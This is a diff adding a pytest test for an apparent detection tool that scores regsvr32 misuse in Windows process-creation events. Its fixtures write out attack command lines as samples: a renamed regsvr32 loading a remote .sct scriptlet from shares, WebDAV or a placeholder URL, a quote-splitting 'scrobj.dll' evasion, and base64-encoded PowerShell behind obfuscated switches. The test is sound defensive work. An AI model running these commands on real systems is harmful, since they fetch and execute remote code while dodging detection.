@@ -258,3 +258,33 @@ def test_every_value_of_a_multivalue_field_is_judged(args):
         for name, value in row.items():      # the row itself passes as it came
             assert got[name] == value, name
     assert (sent[-1]["seq"] in rows) == (args == [])
+
+
+@pytest.mark.parametrize("args", [[], ["mode=filter"]])
+def test_a_renamed_copy_or_encoded_powershell_is_not_skipped_unread(args):
+    # Once: the cheap test (and the byte-level path after it) let these rows by unread, though
+    # the rules flag them: a renamed regsvr32 (4688: no OriginalFileName) fetching its scriptlet
+    # over a share or a quoted URL, or naming scr""obj.dll, and PowerShell's /e and en-dash -e.
+    renamed = {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe",
+               "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}
+    lines = ["jabber.exe /s /u /i:\\\\10.1.2.3\\share\\a.sct x.dll",
+             "jabber.exe /s /u /i://10.1.2.3/share/a.sct x.dll",
+             "jabber.exe /s /u /i:\\\\files@SSL\\DavWWWRoot\\a.sct x.dll",
+             'jabber.exe /s /u /i:"http://files.example/a.sct" x.dll',
+             "jabber.exe /s /u /i:\\??\\UNC\\files\\share\\a.sct x.dll",
+             'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct "scr""obj.dll"']
+    encoded = "cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=="
+    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    flagged = numbered([dict(renamed, CommandLine=line) for line in lines]
+                       + [dict(BENIGN, Image=shell, CommandLine="powershell.exe %s %s" % (switch, encoded))
+                          for switch in ("/enc", "\u2013e", "-ec")])
+    benign = numbered([BENIGN] * 200, len(flagged))
+    result = chunked.run(args, [benign[:100] + flagged + benign[100:]])
+    assert result.returncode == 0, result.stderr[-2000:]
+    rows = dict((r["seq"], r) for r in result.rows)
+    for row in flagged:
+        got = rows[row["seq"]]
+        assert int(got["regsvr32_score"]) >= 20 and got["regsvr32_error"] == "", (row, got)
+    assert "R32-019" in rows[flagged[0]["seq"]]["regsvr32_rules"]
+    assert "R32-045" in rows[flagged[-1]["seq"]]["regsvr32_rules"]
+    assert len(rows) == (len(flagged) + len(benign) if args == [] else len(flagged))
